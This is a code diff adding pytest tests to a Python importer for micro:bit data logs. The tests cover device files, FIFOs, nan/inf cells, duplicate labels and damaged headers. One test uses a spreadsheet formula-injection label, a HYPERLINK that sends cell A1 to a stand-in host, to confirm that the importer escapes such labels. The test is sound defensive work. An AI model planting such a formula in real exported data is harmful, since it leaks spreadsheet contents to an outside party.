@@ -2,6 +2,7 @@
 from __future__ import annotations
 
 import json
+import os
 from pathlib import Path
 
 import pytest
@@ -105,3 +106,74 @@ def test_import_command(tmp_path: Path) -> None:
     junk.write_bytes(b"\x00\x01garbage")
     result = CliRunner().invoke(cli.cli, ["import", str(junk)])
     assert result.exit_code == 1 and "not a micro:bit data log" in result.output
+
+
+# ----- hostile files ------------------------------------------------------------------------
+@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom"])
+def test_devices_are_refused_at_once(tmp_path: Path, device: str) -> None:
+    """Their size reads as 0, so the size check passed and read_bytes() ran out of memory."""
+    if not os.path.exists(device):
+        pytest.skip("no " + device)
+    from click.testing import CliRunner
+
+    from kit import cli
+
+    result = CliRunner().invoke(cli.cli, ["import", device, "-o", str(tmp_path)])
+    assert result.exit_code == 1 and "not a regular file" in result.output
+    assert "Traceback" not in result.output and not list(tmp_path.glob("*.csv"))
+
+
+def test_a_fifo_is_refused_without_blocking(tmp_path: Path) -> None:
+    if not hasattr(os, "mkfifo"):
+        pytest.skip("no FIFOs on this system")
+    fifo = tmp_path / "MY_DATA.HTM"
+    os.mkfifo(fifo)
+    with pytest.raises(RecordingError, match="not a regular file"):
+        import_my_data(fifo, tmp_path / "ud")  # open() of a FIFO blocks until a writer comes
+
+
+def test_nan_and_inf_cells_become_empty_and_the_plot_step_works(tmp_path: Path) -> None:
+    """import wrote nan/inf into the CSV, and its own plot step then crashed on them."""
+    source = tmp_path / "log.csv"
+    source.write_text("Time (seconds),x\n0,1\n1,nan\n2,inf\n3,-inf\n4,1e999\n5,2\n")
+    paths = import_my_data(source, tmp_path / "ud")
+    cells = [line.split(",")[-1] for line in paths.csv.read_text().splitlines()[1:]]
+    assert cells == ["1", "", "", "", "", "2"]
+    assert json.loads(paths.sidecar.read_text())["counts"]["non_numeric_cells"] == 4
+    assert plot_run(paths.csv).stat().st_size > 1000
+
+
+def test_formula_labels_are_text_in_the_csv_and_kept_in_the_sidecar(tmp_path: Path) -> None:
+    """MY_DATA.HTM labels reached the CSV header unchanged: a spreadsheet ran them."""
+    label = '=HYPERLINK("http://x.example/?"&A1,"klik")'
+    make = _builder()
+    rows = "Time (seconds),{0}\n0,1\n1,2\n".format('"' + label.replace('"', '""') + '"')
+    source = tmp_path / "MY_DATA.HTM"
+    source.write_bytes(make.my_data(rows, rows.split("\n", 1)[0]))
+    paths = import_my_data(source, tmp_path / "ud")
+    import csv
+
+    header = next(csv.reader(paths.csv.open(encoding="utf-8")))
+    assert header[3] == "'" + label
+    assert json.loads(paths.sidecar.read_text())["fields"][0]["name"] == label
+    assert read_run(paths.csv).fields == (label,)
+
+
+def test_repeated_labels_keep_both_columns(tmp_path: Path) -> None:
+    source = tmp_path / "log.csv"
+    source.write_text("Time (seconds),x,x\n0,1,2\n1,3,4\n")
+    run = read_run(import_my_data(source, tmp_path / "ud").csv)
+    assert run.fields == ("x", "x (2)") and run.boards["v2-log"].values["x (2)"] == [2, 4]
+
+
+@pytest.mark.parametrize("data_start", [0x812, 0x820, 0x830, 0x838])
+def test_a_data_start_inside_the_metadata_is_damage_not_columns(tmp_path: Path,
+                                                                data_start: int) -> None:
+    """An address into the metadata or labels gave garbage column names such as `ds),t`."""
+    blob = bytearray((DATA / "MY_DATA.HTM").read_bytes())
+    at = blob.find(b"UBIT_LOG_FS_V_002\n") + 29
+    blob[at:at + 10] = b"0x%08X" % data_start
+    source = tmp_path / "MY_DATA.HTM"
+    source.write_bytes(bytes(blob))
+    with pytest.raises(RecordingError, match="cut off or damaged"):
+        import_my_data(source, tmp_path / "ud")
